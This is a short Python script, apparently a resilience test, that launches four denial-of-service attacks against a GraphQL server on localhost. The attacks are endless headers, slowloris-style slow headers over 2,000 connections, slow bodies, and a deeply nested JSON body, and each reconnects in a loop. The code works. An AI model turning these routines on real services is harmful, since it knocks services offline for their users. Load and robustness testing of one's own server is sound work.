"""Attacks on an API by whoever can reach it, in a process of their own: they go on until that is ended."""

import asyncio
import sys
from collections.abc import Awaitable, Callable
from itertools import count

BLOCK = b"x" * 2**16
LONGEST = 4 * 2**20
PAUSE = 0.2  # of those that are slow

Say = Callable[[bytes], Awaitable[None]]


async def keep_on(port: int, what: Callable[[Say], Awaitable[None]]) -> None:
    """Does it on one connection after the other, and reads whatever is answered."""
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(PAUSE)
            continue
        heard = asyncio.create_task(reader.read())

        async def say(data: bytes, writer: asyncio.StreamWriter = writer, heard: asyncio.Task[bytes] = heard) -> None:
            if heard.done():
                raise ConnectionResetError
            writer.write(data)
            await writer.drain()

        try:
            await what(say)
        except ConnectionError:
            pass
        finally:
            writer.close()
            heard.cancel()


def head(token: str, length: int) -> bytes:
    fields = f"Host: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: {length}"
    return f"POST /graphql HTTP/1.1\r\n{fields}\r\n\r\n".encode()


async def send_endless_heads(port: int, _: str) -> None:
    async def go_on(say: Say) -> None:
        await say(b"GET /graphql HTTP/1.1\r\nX: ")
        for _ in range(1_000):
            await say(BLOCK)

    await asyncio.gather(*(keep_on(port, go_on) for _ in range(16)))


async def send_slow_heads(port: int, _: str) -> None:
    async def go_on(say: Say) -> None:
        await say(b"GET /graphql HTTP/1.1\r\nHost: x\r\n")
        for number in count():
            await say(b"X-%d: x\r\n" % number)
            await asyncio.sleep(20 * PAUSE)

    await asyncio.gather(*(keep_on(port, go_on) for _ in range(2_000)))


async def send_slow_bodies(port: int, token: str) -> None:
    async def go_on(say: Say) -> None:
        await say(head(token, LONGEST) + b'{"query": "' + BLOCK * 48)
        while True:
            await say(b"x")
            await asyncio.sleep(20 * PAUSE)

    await asyncio.gather(*(keep_on(port, go_on) for _ in range(300)))


async def send_nested_bodies(port: int, token: str) -> None:
    body = b'{"query": "{ viewer { role } }", "extensions": {"a": [' + b"[]," * ((LONGEST - 100) // 3) + b"[]]}}"

    async def go_on(say: Say) -> None:
        await say(head(token, len(body)) + body)
        await asyncio.sleep(PAUSE)

    await asyncio.gather(*(keep_on(port, go_on) for _ in range(16)))


ATTACKS = {
    "endless heads": send_endless_heads,
    "slow heads": send_slow_heads,
    "slow bodies": send_slow_bodies,
    "nested bodies": send_nested_bodies,
}

if __name__ == "__main__":
    asyncio.run(ATTACKS[sys.argv[1]](int(sys.argv[2]), sys.argv[3]))
